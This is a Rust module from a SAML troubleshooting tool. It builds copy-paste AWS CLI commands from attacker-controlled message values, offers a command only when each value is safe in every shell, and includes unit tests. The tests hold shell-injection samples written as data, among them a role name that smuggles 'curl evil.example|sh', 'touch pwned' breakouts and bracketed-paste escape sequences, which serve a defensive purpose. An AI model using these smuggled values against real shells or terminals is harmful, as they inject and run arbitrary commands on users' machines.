//! Next steps with the user's values filled in: AWS CLI commands, what to look for in
//! the role's trust policy, CloudTrail lookups around the capture time.
//!
//! The commands are meant to be pasted into a shell, and the values in them come from
//! the message, which is attacker-controlled in every byte. So a command is offered only
//! when every value in it has the shape AWS itself accepts ([`crate::aws::names`]: role
//! names and paths, strict ARNs, account ids, region names, Connect instance ids), and
//! each value is written as a word that bash, dash, zsh, fish, PowerShell and cmd all
//! read as exactly that value ([`crate::text::shell_word`]); the command line is built in
//! one place ([`CommandLine`]), which refuses anything else. Otherwise the step says why
//! and shows the value [`quote`]d (invisible characters visible), without a command.
//! `tests/hostile_outputs.rs` runs every command offered for hostile messages in bash,
//! dash, zsh and fish and compares the arguments the `aws` program receives.

use super::common::{attribute_values, iam_endpoints, sign_in_region};
use super::context::{Context, Pack, TimeSource};
use super::select::PackChoice;
use crate::aws::attributes::{
    PRINCIPAL_TAG_PREFIX, ROLE, SESSION_DURATION, SOURCE_IDENTITY, TRANSITIVE_TAG_KEYS,
};
use crate::aws::{self, Endpoint, IamResource, lenient_role_value, names};
use crate::text::{quote, shell_word};
use serde::Serialize;

/// One thing to do next.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, serde::Deserialize)]
pub struct NextStep {
    /// One line: "Check the role's trust policy".
    pub title: String,
    /// A command to copy, with the message's values filled in, when there is one: only
    /// ASCII letters, digits, spaces and `_ . : / - + = , @ * "`, read alike by every
    /// shell.
    pub command: Option<String>,
    /// What to look for in its output.
    pub detail: String,
}

/// How many distinct roles get their own `get-role` step. A Role attribute usually has
/// one to a handful of values; a hostile one can have thousands, and a list of commands
/// that long helps nobody.
const ROLE_STEPS: usize = 5;
/// How far either side of the capture time the CloudTrail lookups reach, in seconds:
/// events land in CloudTrail within minutes, and IdP clocks drift by a few.
const CLOUDTRAIL_WINDOW_SECONDS: i64 = 15 * 60;

/// A command line: our own words, then options whose values each pass
/// [`shell_word`]. The only way a command of a next step is made.
struct CommandLine(String);

impl CommandLine {
    /// Starts with `words`, our own (`aws iam get-role`), never a message's value.
    fn new(words: &'static str) -> CommandLine {
        CommandLine(words.to_owned())
    }

    /// Adds `flag value`, the value as a word every shell reads alike; `None` when it
    /// has no such word. A value that starts with `-` is written `flag="-value"`, so the
    /// AWS CLI takes it as the flag's value, not as an option of its own.
    fn option(mut self, flag: &'static str, value: &str) -> Option<CommandLine> {
        let word = shell_word(value)?;
        let separator = if value.starts_with('-') { '=' } else { ' ' };
        self.0.push(' ');
        self.0.push_str(flag);
        self.0.push(separator);
        self.0.push_str(&word);
        Some(self)
    }

    fn finish(self) -> String {
        self.0
    }
}

fn step(title: impl Into<String>, command: Option<String>, detail: impl Into<String>) -> NextStep {
    NextStep {
        title: title.into(),
        command,
        detail: detail.into(),
    }
}

/// The next steps for one message, given the packs that ran.
pub fn suggest(context: &Context<'_>, packs: &[PackChoice]) -> Vec<NextStep> {
    let ran = |pack: Pack| packs.iter().any(|choice| choice.pack == pack);
    let mut steps = Vec::new();
    if ran(Pack::AwsIam) {
        iam_steps(context, ran(Pack::AmazonConnect), &mut steps);
    }
    if ran(Pack::AwsIdentityCenter) {
        identity_center_steps(context, &mut steps);
    }
    steps
}

/// The time the lookups are centred on: the HAR capture time, else the time the user
/// chose, else the message's IssueInstant (the clock says nothing about when the
/// sign-in happened), else the reference time.
fn around(context: &Context<'_>) -> crate::timestamp::Timestamp {
    if let Some(captured_at) = context.origin.captured_at {
        return captured_at;
    }
    if context.reference_time.source == TimeSource::User {
        return context.now();
    }
    context
        .message
        .header()
        .and_then(|header| header.issue_instant.as_ref())
        .and_then(|instant| instant.parsed)
        .unwrap_or(context.now())
}

/// The CloudTrail lookup of `event` in `region` around the sign-in; `None` when the
/// region is not a region name.
fn cloudtrail(context: &Context<'_>, event: &'static str, region: &str) -> Option<String> {
    if !names::is_region(region) {
        return None;
    }
    let at = around(context);
    Some(
        CommandLine::new("aws cloudtrail lookup-events")
            .option(
                "--lookup-attributes",
                &format!("AttributeKey=EventName,AttributeValue={event}"),
            )?
            .option(
                "--start-time",
                &at.plus_seconds(-CLOUDTRAIL_WINDOW_SECONDS).to_string(),
            )?
            .option(
                "--end-time",
                &at.plus_seconds(CLOUDTRAIL_WINDOW_SECONDS).to_string(),
            )?
            .option("--region", region)?
            .finish(),
    )
}

/// Why a value gets no command, in the words of a step's detail.
const NOT_AN_IAM_ROLE_ARN: &str = "is not a role ARN IAM accepts (arn:<partition>:iam::<12-digit account>:role/<optional path/><name>, the name 1 to 64 of A-Z a-z 0-9 + = , . @ _ -, the path printable ASCII without spaces)";

fn iam_steps(context: &Context<'_>, connect: bool, steps: &mut Vec<NextStep>) {
    let Some(assertion) = context.message.evaluated_assertion() else {
        return;
    };
    let roles = attribute_values(assertion, ROLE).unwrap_or_default();
    let mut seen_roles: Vec<&str> = Vec::new();
    let mut providers: Vec<&str> = Vec::new();
    let endpoint = iam_endpoints(context, assertion)
        .into_iter()
        .find(|(label, _, _)| *label == "Recipient")
        .map(|(_, url, _)| url.to_owned())
        .unwrap_or_else(|| aws::GLOBAL_SIGN_IN_URL.to_owned());
    let tags_sent = assertion.attributes.iter().any(|attribute| {
        attribute.name.starts_with(PRINCIPAL_TAG_PREFIX) || attribute.name == TRANSITIVE_TAG_KEYS
    });
    let source_identity_sent = attribute_values(assertion, SOURCE_IDENTITY).is_some();
    let duration_sent = attribute_values(assertion, SESSION_DURATION).is_some();
    for value in &roles {
        let (role_part, name, provider) = lenient_role_value(value);
        if let Some(provider) = provider
            && providers.len() < ROLE_STEPS
            && !providers.contains(&provider)
        {
            providers.push(provider);
        }
        let (Some(role_part), Some(name)) = (role_part, name) else {
            continue;
        };
        if seen_roles.contains(&name) || seen_roles.len() >= ROLE_STEPS {
            continue;
        }
        seen_roles.push(name);
        let strict = names::role_arn(role_part).and_then(|arn| match arn.resource {
            IamResource::Role { name, .. } => Some(name),
            IamResource::SamlProvider { .. } => None,
        });
        let get_role = strict.and_then(|name| {
            CommandLine::new("aws iam get-role")
                .option("--role-name", name)
                .map(CommandLine::finish)
        });
        let (Some(name), Some(get_role)) = (strict, get_role) else {
            steps.push(step(
                "Fix the role ARN before looking the role up",
                None,
                format!(
                    "The role ARN {} {NOT_AN_IAM_ROLE_ARN}, so no command is offered for it; correct the Role value first (see aws.role.format).",
                    quote(role_part)
                ),
            ));
            continue;
        };
        let mut actions = vec!["\"sts:AssumeRoleWithSAML\""];
        if tags_sent {
            actions.push("\"sts:TagSession\"");
        }
        if source_identity_sent {
            actions.push("\"sts:SetSourceIdentity\"");
        }
        let mut detail = format!(
            "In Role.AssumeRolePolicyDocument, a statement must Allow {} for Principal {{\"Federated\": {}}} with a StringEquals condition on \"SAML:aud\" listing {}.",
            actions.join(", "),
            provider.map_or_else(|| "<the SAML provider ARN>".to_owned(), quote),
            quote(&endpoint)
        );
        if tags_sent {
            detail.push_str(" The assertion sends session tags, so sts:TagSession is needed.");
        }
        if source_identity_sent {
            detail.push_str(
                " The assertion sends SourceIdentity, so sts:SetSourceIdentity is needed.",
            );
        }
        steps.push(step(
            format!("Check the trust policy of role {name}"),
            Some(get_role),
            detail,
        ));
        let max_duration = CommandLine::new("aws iam get-role")
            .option("--role-name", name)
            .and_then(|command| command.option("--query", "Role.MaxSessionDuration"))
            .map(CommandLine::finish);
        if duration_sent && let Some(max_duration) = max_duration {
            steps.push(step(
                format!("Check the maximum session duration of role {name}"),
                Some(max_duration),
                "The SessionDuration the assertion asks for must not exceed this number of seconds (default 3600), or AWS refuses with \"Requested DurationSeconds exceeds MaxSessionDuration set for this role\".",
            ));
        }
    }
    let fingerprints: Vec<String> = context
        .message
        .signatures
        .iter()
        .flat_map(|signature| &signature.certificates)
        .filter_map(|embedded| embedded.certificate.as_ref())
        .map(|certificate| certificate.sha256_fingerprint.clone())
        .fold(Vec::new(), |mut all, fingerprint| {
            if all.len() < ROLE_STEPS && !all.contains(&fingerprint) {
                all.push(fingerprint);
            }
            all
        });
    let certificate_detail = match fingerprints.as_slice() {
        [] => "The message carries no certificate to compare with; the provider's SAMLMetadataDocument must hold the IdP's current signing certificate.".to_owned(),
        [one] => format!(
            "Its SAMLMetadataDocument must hold the certificate the message was signed with, SHA-256 fingerprint {one} (e.g. save the X509Certificate as PEM and run openssl x509 -noout -fingerprint -sha256). A different certificate means the IdP rotated its key and the provider still holds the old one (\"Response signature invalid\")."
        ),
        many => format!(
            "Its SAMLMetadataDocument must hold the certificate the message was signed with; the message carries {} certificates with SHA-256 fingerprints {}.",
            many.len(),
            many.join(", ")
        ),
    };
    for provider in &providers {
        let command = names::saml_provider_arn(provider).and_then(|arn| {
            CommandLine::new("aws iam get-saml-provider")
                .option("--saml-provider-arn", arn.text)
                .map(CommandLine::finish)
        });
        match command {
            Some(command) => steps.push(step(
                "Compare the SAML provider's certificate with the message's",
                Some(command),
                certificate_detail.clone(),
            )),
            None => steps.push(step(
                "Fix the SAML provider ARN before looking the provider up",
                None,
                format!(
                    "The SAML provider ARN {} is not one IAM accepts (arn:<partition>:iam::<12-digit account>:saml-provider/<name>, the name 1 to 128 of A-Z a-z 0-9 . _ -), so no command is offered for it; correct the Role value first (see aws.role.format).",
                    quote(provider)
                ),
            )),
        }
    }
    steps.push(step(
        "List the account's SAML providers",
        Some("aws iam list-saml-providers".to_owned()),
        if providers.is_empty() {
            "The Role attribute names no SAML provider ARN; it must name one of these (\"Specified provider doesn't exist\" otherwise).".to_owned()
        } else {
            format!(
                "{} must be listed, spelled exactly (account id included), or AWS says \"Specified provider doesn't exist\".",
                providers.iter().map(|provider| quote(provider)).collect::<Vec<_>>().join(", ")
            )
        },
    ));
    let region = sign_in_region(context).unwrap_or_else(|| aws::GLOBAL_SIGN_IN_REGION.to_owned());
    let lookup = cloudtrail(context, "AssumeRoleWithSAML", &region);
    let mut detail = format!(
        "AssumeRoleWithSAML events within 15 minutes of {} (run it in the account of the role); errorCode and errorMessage say why a sign-in was refused.",
        around(context)
    );
    if lookup.is_none() {
        detail.push_str(&format!(
            " No command is offered: the sign-in region {} is not a region name.",
            quote(&region)
        ));
    }
    steps.push(step("Look for the sign-in in CloudTrail", lookup, detail));
    if connect {
        connect_steps(context, &roles, steps);
    }
}

fn connect_steps(context: &Context<'_>, roles: &[&str], steps: &mut Vec<NextStep>) {
    let Some(relay) = context.relay_state.and_then(aws::connect_relay_state) else {
        return;
    };
    let Some(role_arn) = roles
        .iter()
        .find_map(|value| aws::parse_role_value(value).ok())
        .map(|pair| pair.role)
    else {
        return;
    };
    const TITLE: &str = "Check that the role may federate into the Connect instance";
    let Some(instance) = names::connect_instance_arn(
        role_arn.partition,
        &relay.region,
        role_arn.account,
        &relay.instance_id,
    ) else {
        steps.push(step(
            TITLE,
            None,
            format!(
                "The role's permissions must allow connect:GetFederationToken on the instance the RelayState names; no command is offered because its instance id {} is not one Amazon Connect makes (a lowercase UUID such as 5f1e2d3c-aaaa-bbbb-cccc-123456789abc); see connect.relaystate.",
                quote(&relay.instance_id)
            ),
        ));
        return;
    };
    let command = CommandLine::new("aws iam simulate-principal-policy")
        .option("--policy-source-arn", role_arn.text)
        .and_then(|command| command.option("--action-names", "connect:GetFederationToken"))
        .and_then(|command| command.option("--resource-arns", &format!("{instance}/user/*")))
        .map(CommandLine::finish);
    let mut detail = format!(
        "The role's permissions must allow connect:GetFederationToken on {instance}/user/${{aws:userid}}; without it Connect says \"Access denied, Please contact your AWS account administrator\"."
    );
    if command.is_none() {
        detail.push_str(&format!(
            " No command is offered: the role ARN {} has characters in its path that shells do not all read alike.",
            quote(role_arn.text)
        ));
    }
    steps.push(step(TITLE, command, detail));
}

fn identity_center_steps(context: &Context<'_>, steps: &mut Vec<NextStep>) {
    let region = context.message.evaluated_assertion().and_then(|assertion| {
        let mut urls: Vec<&str> = Vec::new();
        if let Some(destination) = context
            .message
            .header()
            .and_then(|h| h.destination.as_deref())
        {
            urls.push(destination);
        }
        if let Some(conditions) = &assertion.conditions {
            urls.extend(
                conditions
                    .audience_restrictions
                    .iter()
                    .flatten()
                    .map(String::as_str),
            );
        }
        urls.into_iter().find_map(|url| match aws::endpoint(url) {
            Some(
                Endpoint::IdentityCenterAcs { region, .. }
                | Endpoint::IdentityCenterEntity { region, .. },
            ) => Some(region),
            _ => None,
        })
    });
    let Some(region) = region else {
        return;
    };
    let Some(lookup) = cloudtrail(context, "ExternalIdPDirectoryLogin", &region) else {
        return;
    };
    steps.push(step(
        "Look for the sign-in in Identity Center's CloudTrail",
        Some(lookup),
        format!(
            "ExternalIdPDirectoryLogin events within 15 minutes of {} in {region}, the Identity Center region; a failed one names the reason (user not found, NameID mismatch, signature).",
            around(context)
        ),
    ));
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{AttributeSpec, PROVIDER_ARN, ROLE_ATTRIBUTE, ResponseSpec, analyze_xml};

    fn steps(spec: &ResponseSpec) -> Vec<NextStep> {
        analyze_xml(&spec.xml()).next_steps
    }

    fn commands(spec: &ResponseSpec) -> Vec<String> {
        steps(spec)
            .into_iter()
            .filter_map(|step| step.command)
            .collect()
    }

    fn with_role(role: &str) -> ResponseSpec {
        let value = format!("{role},{PROVIDER_ARN}");
        ResponseSpec::default().with_attribute(AttributeSpec::new(ROLE_ATTRIBUTE, &[&value]))
    }

    #[test]
    fn command_lines_take_only_portable_values() {
        let line = |value: &str| {
            CommandLine::new("aws iam get-role")
                .option("--role-name", value)
                .map(CommandLine::finish)
        };
        let cases: [(&str, Option<&str>); 9] = [
            (
                "SamlReadOnly",
                Some("aws iam get-role --role-name SamlReadOnly"),
            ),
            ("a@b", Some("aws iam get-role --role-name \"a@b\"")),
            ("=ls", Some("aws iam get-role --role-name \"=ls\"")),
            ("-debug", Some("aws iam get-role --role-name=\"-debug\"")),
            ("a,b", Some("aws iam get-role --role-name \"a,b\"")),
            ("a b", None),
            ("a\\", None),
            ("$(id)", None),
            ("R\u{1b}[201~", None),
        ];
        for (value, expected) in cases {
            assert_eq!(line(value).as_deref(), expected, "{value:?}");
        }
    }

    /// Each role ARN, and the get-role command offered for it (`None`: a step that
    /// explains, without a command).
    #[test]
    fn get_role_is_offered_only_for_names_iam_accepts() {
        let cases: [(&str, Option<&str>); 12] = [
            (
                "arn:aws:iam::111122223333:role/SamlReadOnly",
                Some("aws iam get-role --role-name SamlReadOnly"),
            ),
            (
                "arn:aws:iam::111122223333:role/team/$x/Ops.Admin",
                Some("aws iam get-role --role-name Ops.Admin"),
            ),
            (
                "arn:aws:iam::111122223333:role/=Admins",
                Some("aws iam get-role --role-name \"=Admins\""),
            ),
            (
                "arn:aws:iam::111122223333:role/-x",
                Some("aws iam get-role --role-name=\"-x\""),
            ),
            (
                "arn:aws:iam::111122223333:role/@a+b=c",
                Some("aws iam get-role --role-name \"@a+b=c\""),
            ),
            // Fish reads `\'` inside single quotes as a quote: this one broke out.
            ("arn:aws:iam::111122223333:role/a\\';touch pwned;#", None),
            (
                "arn:aws:iam::111122223333:role/R';curl evil.example|sh;echo '",
                None,
            ),
            ("arn:aws:iam::111122223333:role/R\u{9b}2J", None),
            ("arn:aws:iam::111122223333:role/R\u{202e}nimda", None),
            ("arn:aws:iam::111122223333:role/%PATH%", None),
            ("arn:aws:iam::111122223333:role/x{ab}", None),
            ("arn:aws:iam::11112222333:role/R", None),
        ];
        for (role, expected) in cases {
            let found = steps(&with_role(role));
            let get_role: Vec<&str> = found
                .iter()
                .filter_map(|step| step.command.as_deref())
                .filter(|command| {
                    command.starts_with("aws iam get-role") && !command.contains("--query")
                })
                .collect();
            match expected {
                Some(command) => assert_eq!(get_role, [command], "{role:?}"),
                None => {
                    assert!(get_role.is_empty(), "{role:?}: {get_role:?}");
                    let explained = found.iter().find(|step| step.command.is_none());
                    let detail = explained.map(|step| step.detail.as_str()).unwrap_or("");
                    assert!(
                        detail.contains(&quote(role)) && detail.contains("no command"),
                        "{role:?}: {found:#?}"
                    );
                }
            }
        }
    }

    #[test]
    fn no_command_carries_a_control_or_invisible_character() {
        for hostile in [
            "R\u{9b}2J",
            "R\nrm",
            "R\u{85}x",
            "R\u{202e}nimda",
            "R\u{2028}",
        ] {
            let role = format!("arn:aws:iam::111122223333:role/{hostile}");
            for step in steps(&with_role(&role)) {
                let command = step.command.unwrap_or_default();
                assert!(
                    !command.chars().any(crate::text::is_hidden_or_control),
                    "{hostile:?}: {command:?}"
                );
                assert!(
                    !step.detail.chars().any(crate::text::is_hidden_or_control),
                    "{hostile:?}: {:?}",
                    step.detail
                );
            }
        }
    }

    #[test]
    fn steps_are_prefilled_from_the_message() {
        let spec = ResponseSpec::default().with_attribute(AttributeSpec::new(
            &format!("{}Team", PRINCIPAL_TAG_PREFIX),
            &["ops"],
        ));
        let message = analyze_xml(&spec.xml());
        let all: Vec<String> = message
            .next_steps
            .iter()
            .map(|step| {
                format!(
                    "{} | {} | {}",
                    step.title,
                    step.command.clone().unwrap_or_default(),
                    step.detail
                )
            })
            .collect();
        let text = all.join("\n");
        for expected in [
            "aws iam get-role --role-name SamlReadOnly |",
            "sts:TagSession",
            "SAML:aud",
            "aws iam get-role --role-name SamlReadOnly --query Role.MaxSessionDuration",
            "aws iam get-saml-provider --saml-provider-arn arn:aws:iam::111122223333:saml-provider/ExampleIdP",
            "aws iam list-saml-providers",
            "aws cloudtrail lookup-events --lookup-attributes \"AttributeKey=EventName,AttributeValue=AssumeRoleWithSAML\" --start-time \"2024-05-01T11:45:00Z\" --end-time \"2024-05-01T12:15:00Z\" --region us-east-1",
        ] {
            assert!(text.contains(expected), "{expected:?} not in\n{text}");
        }
        assert!(!text.contains("sts:SetSourceIdentity"), "{text}");
    }

    /// The Connect step for a Connect sign-in posted with `relay_state`.
    fn connect_step(relay_state: &str) -> NextStep {
        use base64::Engine;
        let xml = ResponseSpec::default()
            .without_attribute(crate::aws::attributes::SESSION_DURATION)
            .xml();
        let percent = |text: &str| -> String {
            text.bytes()
                .map(|b| match b {
                    b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' => {
                        char::from(b).to_string()
                    }
                    other => format!("%{other:02X}"),
                })
                .collect()
        };
        let body = format!(
            "SAMLResponse={}&RelayState={}",
            percent(&base64::engine::general_purpose::STANDARD.encode(xml)),
            percent(relay_state)
        );
        let report = crate::testing::analyze_texts(&[&body], &Default::default());
        report.messages[0]
            .next_steps
            .iter()
            .find(|step| step.title.contains("Connect"))
            .cloned()
            .unwrap_or_else(|| panic!("no Connect step for {relay_state:?}"))
    }

    #[test]
    fn connect_steps_need_an_instance_id_connect_makes() {
        let federate = "https://eu-west-2.console.aws.amazon.com/connect/federate/";
        let good = connect_step(&format!(
            "{federate}5f1e2d3c-aaaa-bbbb-cccc-123456789abc?destination=%2Fccp-v2"
        ));
        assert_eq!(
            good.command.as_deref(),
            Some(
                "aws iam simulate-principal-policy --policy-source-arn arn:aws:iam::111122223333:role/SamlReadOnly --action-names connect:GetFederationToken --resource-arns \"arn:aws:connect:eu-west-2:111122223333:instance/5f1e2d3c-aaaa-bbbb-cccc-123456789abc/user/*\""
            )
        );
        // This one ended a bracketed paste, erased the line and ran `touch` in bash.
        for instance in [
            "x\u{1b}[201~\u{15}touch pwned\n",
            "x';touch pwned;'",
            "5F1E2D3C-AAAA-BBBB-CCCC-123456789ABC",
        ] {
            let hostile = connect_step(&format!("{federate}{instance}"));
            assert_eq!(hostile.command, None, "{instance:?}");
            assert!(hostile.detail.contains(&quote(instance)), "{hostile:#?}");
            assert!(
                !hostile
                    .detail
                    .chars()
                    .any(crate::text::is_hidden_or_control),
                "{hostile:#?}"
            );
        }
    }

    #[test]
    fn identity_center_gets_its_own_cloudtrail_event() {
        let commands = commands(&ResponseSpec::identity_center());
        assert!(
            commands
                .iter()
                .any(|command| command.contains("ExternalIdPDirectoryLogin")
                    && command.ends_with("--region eu-west-1")),
            "{commands:#?}"
        );
        assert!(!commands.iter().any(|command| command.contains("get-role")));
    }
}
